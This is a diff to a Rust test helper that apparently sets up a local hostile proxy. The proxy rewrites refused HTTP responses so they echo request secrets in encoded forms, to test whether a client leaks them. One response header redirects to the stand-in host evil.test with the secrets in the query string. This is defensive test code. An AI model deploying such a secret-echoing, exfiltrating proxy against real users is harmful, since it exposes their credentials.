@@ -1,6 +1,7 @@
 //! A hostile proxy before an honest endpoint: each refusal is replaced by an echo of the request, secrets and
 //! all, in every place and coding; and it remembers which secrets it was sent.
 
+use super::codings;
 use std::collections::BTreeSet;
 use std::io::{Read as _, Write as _};
 use std::net::{SocketAddr, TcpListener, TcpStream};
@@ -27,31 +28,46 @@ const NAMES: [&str; 9] = [
 pub(super) struct Echo {
     pub(super) address: SocketAddr,
     seen: Arc<Mutex<BTreeSet<String>>>,
+    coded: Arc<Mutex<Vec<String>>>,
 }
 
 impl Echo {
-    pub(super) fn before(server: SocketAddr) -> Self {
+    /// An echo before `server` that also reveals `secrets`, which no request holds, each time in another chain of codings.
+    pub(super) fn before(server: SocketAddr, secrets: &'static [&'static str]) -> Self {
         let listener = TcpListener::bind("127.0.0.1:0").unwrap();
         let address = listener.local_addr().unwrap();
         let seen = Arc::new(Mutex::new(BTreeSet::new()));
         let noted = Arc::clone(&seen);
+        let coded = Arc::new(Mutex::new(Vec::new()));
+        let revealed = Arc::clone(&coded);
         thread::spawn(move || {
             for client in listener.incoming().map_while(Result::ok) {
-                let noted = Arc::clone(&noted);
+                let (noted, revealed) = (Arc::clone(&noted), Arc::clone(&revealed));
                 // A connection that one side gives up is the business of the scenario that did.
-                thread::spawn(move || relay(client, server, &noted));
+                thread::spawn(move || relay(client, server, &noted, secrets, &revealed));
             }
         });
-        Self { address, seen }
+        Self { address, seen, coded }
     }
 
     /// The secrets that went over the wire.
     pub(super) fn seen(&self) -> BTreeSet<String> {
         self.seen.lock().unwrap().clone()
     }
+
+    /// The chains of codings that went over the wire.
+    pub(super) fn coded(&self) -> Vec<String> {
+        self.coded.lock().unwrap().clone()
+    }
 }
 
-fn relay(mut client: TcpStream, server: SocketAddr, seen: &Mutex<BTreeSet<String>>) -> Option<()> {
+fn relay(
+    mut client: TcpStream,
+    server: SocketAddr,
+    seen: &Mutex<BTreeSet<String>>,
+    secrets_of_server: &[&str],
+    revealed: &Mutex<Vec<String>>,
+) -> Option<()> {
     let mut server = TcpStream::connect(server).ok()?;
     let (mut from, mut to) = (client.try_clone().ok()?, server.try_clone().ok()?);
     let request = Arc::new(Mutex::new(Vec::new()));
@@ -72,12 +88,21 @@ fn relay(mut client: TcpStream, server: SocketAddr, seen: &Mutex<BTreeSet<String
     let request = request.lock().unwrap().clone();
     seen.lock().unwrap().extend(secrets(&request));
     let refused = response.strip_prefix(b"HTTP/1.1 ").is_some_and(|rest| rest.starts_with(b"4"));
-    let response = if refused { with_echo(&response, &request) } else { response };
+    let response = if refused {
+        let mut revealed = revealed.lock().unwrap();
+        let number = revealed.len();
+        let coded = codings::coded(secrets_of_server[number % secrets_of_server.len()], number.wrapping_mul(1009));
+        revealed.push(coded.clone());
+        drop(revealed);
+        with_echo(&response, &request, &coded)
+    } else {
+        response
+    };
     client.write_all(&response).ok()
 }
 
 /// The response with the request in its header and in its message, as text and encoded.
-fn with_echo(response: &[u8], request: &[u8]) -> Vec<u8> {
+fn with_echo(response: &[u8], request: &[u8], coded: &str) -> Vec<u8> {
     let text = String::from_utf8_lossy(response);
     let Some((head, body)) = text.split_once("\r\n\r\n") else { return response.to_vec() };
     let start = &request[..request.len().min(4096)];
@@ -85,16 +110,22 @@ fn with_echo(response: &[u8], request: &[u8]) -> Vec<u8> {
     let hex: String = start.iter().map(|byte| format!("{byte:02x}")).collect();
     let echo = escaped(&plain);
     let bare = secrets(request).into_iter().collect::<Vec<_>>().join(" ");
-    let status = head.lines().next().unwrap_or_default();
+    let status = format!("{} {coded}", head.lines().next().unwrap_or_default());
     let body = if body.contains("<Message>") {
-        body.replacen("<Message>", &format!("<Message>{} {echo} ", escaped(&bare)), 1)
+        body.replacen("<Message>", &format!("<Message>{} {} {echo} ", escaped(coded), escaped(&bare)), 1)
     } else {
         body.to_owned()
     };
-    let body = format!("{body}<!-- {} {} {} -->", STANDARD.encode(start), hex, escaped(&bare).replace("--", "- -"));
+    let body = format!(
+        "{body}<!-- {} {} {} {} -->",
+        escaped(coded).replace("--", "- -"),
+        STANDARD.encode(start),
+        hex,
+        escaped(&bare).replace("--", "- -")
+    );
     let length = body.len();
     format!(
-        "{status}\r\nContent-Type: application/xml\r\nLocation: http://evil.test/?{bare}\r\nX-Echo: {plain}\r\n\
+        "{status}\r\nContent-Type: application/xml\r\nLocation: http://evil.test/?{bare}\r\nX-Echo: {plain}\r\nX-Debug: {coded}\r\n\
          X-Coded: {}\r\nServer: {bare}\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n{body}",
         STANDARD.encode(start)
     )
